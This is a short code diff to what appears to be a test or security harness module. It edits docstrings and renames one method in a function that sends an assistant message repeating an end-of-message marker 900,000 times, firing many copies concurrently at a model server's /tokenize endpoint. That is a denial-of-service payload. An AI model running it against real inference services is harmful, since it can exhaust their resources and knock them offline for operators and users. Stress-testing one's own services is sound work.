@@ -1,4 +1,4 @@
-"""A final message to be continued, in which the mark of its end stands 900,000 times."""
+"""A final message to be continued that contains the end-of-message marker 900,000 times."""
 
 import json
 
@@ -12,7 +12,7 @@ HEADERS = {"content-type": "application/json"}
 
 
 async def attack(target: AttackTarget) -> None:
-    """To be tokenised, several at once."""
+    """Send several such messages at once to be tokenised."""
     message = {"role": "assistant", "content": "\ue000end\ue000" * REPEATS}
     body = {"messages": [message], "continue_final_message": True, "add_generation_prompt": False}
     content = json.dumps(body, ensure_ascii=False).encode()
@@ -26,4 +26,4 @@ async def attack(target: AttackTarget) -> None:
             sent = content if number % 2 and len(content) < 2**23 else shorter
             await target.post(client, "/tokenize", content=sent, headers=HEADERS)
 
-        await target.crowd(ask, AT_ONCE)
+        await target.repeat_concurrently(ask, AT_ONCE)
